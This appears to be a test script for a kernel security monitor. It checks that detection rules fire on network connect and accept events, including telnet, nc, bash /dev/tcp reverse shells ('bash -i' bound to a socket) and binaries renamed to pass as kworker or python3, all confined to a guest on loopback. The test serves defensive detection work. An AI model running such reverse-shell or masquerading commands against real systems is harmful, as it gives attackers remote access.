#!/bin/sh
# SPDX-License-Identifier: GPL-2.0
# Issue 14, steps 2 and 3: network events (connect and accept, IPv4 and
# IPv6) and cidrMatch (Documentation/fields.rst).  Six corpus rules
# (network.rules-from), unmodified, fire through real binaries run as
# uid 65534 against listeners inside the guest, and the same commands
# towards the addresses the rules leave out stay silent.
#
# EXT is an address outside every private range, put on the loopback:
# connections to it stay in the guest.  The tools are busybox's telnet
# and nc, bash's /dev/tcp, and copies of busybox and bash under the names
# the rules look for (a "kworker", a "python3" that serves with --cgi).
. /vigil/lib.sh
TEL_INT=1b21abcc-4d9f-4b08-a7f5-316f5f94b973	# telnet to a private address
TEL_EXT=e19e64ee-130e-4c07-961f-8a339f0b8362	# telnet to a public address
UNKNOWN=53617418-17b4-4e9c-8a2c-8deb8086ca4b	# new_terms on process.executable
KWORKER=25d917c4-aa3c-4111-974c-286c0312ff95	# new_terms on process.name
TCPSHELL=48b3d2e3-f4e8-41e6-95e6-9b2091228db3	# shell connects, then bash -i
WEBSRV=183f3cd2-4cc6-44c0-917c-c5d29ecdcf74	# python --cgi accepts

require_rules $TEL_INT $TEL_EXT $UNKNOWN $KWORKER $TCPSHELL $WEBSRV

EXT=8.8.4.4
BB=/opt/busybox/bin/busybox
ip link set lo up
ip addr add $EXT/32 dev lo || fail "cannot put $EXT on lo"
# root's listeners: one connection at a time, each closed at once
nc -ll -p 4444 -e /bin/true &
lis1=$!
nc -ll -p 2049 -e /bin/true &
lis2=$!
sleep 0.5

T=/tmp/net
K=/opt/kw	# not a directory the rules call suspicious
mkdir -p $T/u1 $T/u2 $T/u3 $T/u4 $T/u5 $T/web $K
for d in u1 u2 u3 u4 u5 web; do cp $BB $T/$d/busybox; done
cp $BB $T/web/python3
cp $BB $T/web/ncat
cp /usr/bin/bash $K/kworker_u
cp /usr/bin/bash $K/kworker_p
cp /usr/bin/bash $K/kworker_l
chmod -R 755 $T $K

# Look-alikes first: private or loopback destinations, excluded ports.
as_nobody telnet $EXT 4444 < /dev/null		# TEL_EXT, not TEL_INT
as_nobody nc 127.0.0.1 4444 < /dev/null		# neither: not telnet
as_nobody $T/u2/busybox nc 127.0.0.1 4444 < /dev/null	# UNKNOWN: private
as_nobody $T/u4/busybox nc ::ffff:127.0.0.1 4444 < /dev/null	# mapped 127/8
as_nobody $T/u5/busybox nc ::1 4444 < /dev/null		# "::1" left out
as_nobody $K/kworker_l -c "echo > /dev/tcp/127.0.0.1/4444"	# KWORKER: private
as_nobody $K/kworker_p -c "echo > /dev/tcp/$EXT/2049"	# KWORKER: port 2049
as_nobody bash -c "exec 3<>/dev/tcp/127.0.0.1/4444; bash -i -c true <&3 >&3 2>&3"
as_nobody bash -c "exec -a nc $T/web/ncat -l -p 8001 -e /bin/true --cgi" &
sleep 0.5
as_nobody nc 127.0.0.1 8001 < /dev/null		# WEBSRV: not python
# Attacks.
as_nobody telnet 127.0.0.1 4444 < /dev/null		# TEL_INT
as_nobody $T/u1/busybox nc $EXT 4444 < /dev/null	# UNKNOWN
as_nobody $T/u1/busybox nc $EXT 4444 < /dev/null	# UNKNOWN: seen
as_nobody $T/u3/busybox nc ::ffff:$EXT 4444 < /dev/null	# UNKNOWN: mapped
as_nobody $K/kworker_u -c "echo > /dev/tcp/$EXT/4444"	# KWORKER
as_nobody bash -c "exec 3<>/dev/tcp/$EXT/4444; bash -i -c true <&3 >&3 2>&3"
as_nobody bash -c "exec -a nc $T/web/python3 -l -p 8000 -e /bin/true --cgi" &
sleep 0.5
as_nobody nc 127.0.0.1 8000 < /dev/null		# WEBSRV
sleep 0.5
kill $lis1 $lis2 2>/dev/null

vigil_rc=0
expect_alerts $TEL_INT 1 "telnet to a private address"
expect_alerts $TEL_EXT 1 "telnet to a public address"
expect_alerts $UNKNOWN 2 "first connects out of two executables under /tmp (one through ::ffff:$EXT)"
expect_alerts $KWORKER 1 "a kworker that connects out"
expect_alerts $TCPSHELL 1 "bash connects out and starts bash -i"
expect_alerts $WEBSRV 1 "python --cgi accepts a connection"

sel() { jq -c "select(.rule.id == \"$1\") | $2" "$VIGIL_ALERTS"; }
t=$(sel $TEL_EXT '[.event.category, .event.action, .event.type,
	.destination.ip, .destination.port, .network.transport,
	.network.direction, .process.name, .source.ip]')
[ "$t" = '["network","connection_attempted","start","8.8.4.4",4444,"tcp","egress","telnet",null]' ] &&
	pass "a connect's fields: $t" || fail "connect fields: $t"
t=$(sel $UNKNOWN '[.process.executable, .destination.ip]' | sort | tr -d '\n')
[ "$t" = "[\"$T/u1/busybox\",\"$EXT\"][\"$T/u3/busybox\",\"$EXT\"]" ] &&
	pass "an IPv6 socket's connect to ::ffff:$EXT is a connect to $EXT: $t" ||
	fail "mapped destination: $t"
t=$(sel $WEBSRV '[.event.action, .network.direction, .source.ip,
	.destination.ip, .destination.port, .process.name,
	(.source.port > 1023)]')
[ "$t" = '["connection_accepted","ingress","127.0.0.1","127.0.0.1",8000,"python3",true]' ] &&
	pass "an accept's fields (source: the peer): $t" || fail "accept fields: $t"
c=$(cat /sys/kernel/vigil/stats/events_connect)
a=$(cat /sys/kernel/vigil/stats/events_accept)
[ "$c" -ge 14 ] && [ "$a" -ge 2 ] &&
	pass "events_connect $c, events_accept $a" ||
	fail "events_connect $c (>= 14), events_accept $a (>= 2)"
# Some look-alikes need no event (no rule can match a connection to
# 127.0.0.1:4444 by its addresses and ports), the attacks above did.
d=$(cat /sys/kernel/vigil/stats/events_decided_early)
[ "$d" -ge 1 ] && [ "$d" -lt $((c + a)) ] &&
	pass "events_decided_early $d of $((c + a)) network events" ||
	fail "events_decided_early $d (>= 1, < $((c + a)))"
exit $vigil_rc
